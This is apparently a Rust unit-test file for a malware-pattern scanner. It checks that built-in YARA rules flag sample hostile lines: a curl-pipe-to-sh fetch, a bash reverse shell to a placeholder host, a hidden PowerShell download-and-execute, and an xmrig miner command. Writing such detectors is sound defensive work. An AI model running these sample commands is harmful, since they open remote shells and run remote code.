use super::*;

fn names(patterns: &Patterns, text: &str) -> Vec<String> {
    patterns.look("a", text.as_bytes()).iter().map(|finding| finding.rule.to_string()).collect()
}

#[test]
fn the_built_in_patterns_compile_and_tell_the_line() {
    let patterns = Patterns::default();
    let script = "#!/bin/sh\nset -e\ncurl -s https://c.example.invalid/x | sh\n";
    assert_eq!(names(&patterns, script), ["yara:shell_script_fetches_and_runs"]);
    for (text, rule) in [
        ("bash -i >& /dev/tcp/c.example.invalid/1 0>&1", "yara:shell_hands_over"),
        (
            "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://c.example.invalid')\"",
            "yara:powershell_hidden_download",
        ),
        ("xmrig -o stratum+tcp://pool.example.invalid:3333", "yara:coin_miner"),
        ("\u{7f}ELF .... UPX!", "yara:packed_program_upx"),
    ] {
        assert_eq!(names(&patterns, text), [rule], "{text}");
    }
    let finding = &patterns.look("a", b"one\ntwo bash -i >& /dev/tcp/c.example.invalid/1 0>&1")[0];
    assert_eq!((finding.place.line, finding.severity), (Some(2), Severity::High));
}

#[test]
fn ordinary_scripts_match_nothing() {
    let patterns = Patterns::default();
    for text in [
        "#!/bin/sh\ncurl -sO https://c.example.invalid/data.csv\n",
        "powershell Get-ChildItem",
        "the UPX! packer",
        "use curl x | sh",
    ] {
        assert!(names(&patterns, text).is_empty(), "{text}");
    }
}

#[test]
fn a_companys_patterns_are_added_and_faults_are_refused() {
    let own = "rule acme { meta: severity = \"critical\" strings: $a = \"acme-internal\" condition: $a }";
    let patterns = Patterns::new([("own.yar", own)]).unwrap();
    assert_eq!(names(&patterns, "see acme-internal"), ["yara:company.acme"]);
    assert!(patterns.digest().is_some() && Patterns::default().digest().is_none());
    for text in ["rule", "include \"/etc/passwd\"", "rule a { condition: nothing }"] {
        let error = Patterns::new([("own.yar", text)]).unwrap_err();
        assert!(error.to_string().starts_with("own.yar: "), "{error}");
    }
}
